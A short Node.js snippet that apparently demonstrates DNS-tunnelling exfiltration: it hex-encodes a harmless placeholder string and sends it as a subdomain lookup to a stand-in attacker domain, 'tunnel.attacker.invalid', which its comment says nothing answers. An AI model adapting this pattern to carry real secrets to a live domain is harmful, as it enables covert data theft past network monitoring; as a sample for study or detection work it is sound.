// Puts data into a host name that nothing answers.
const dns = require('node:dns');

const data = Buffer.from('nothing that matters, but long').toString('hex');
dns.lookup(`${data}.tunnel.attacker.invalid`, () => {});
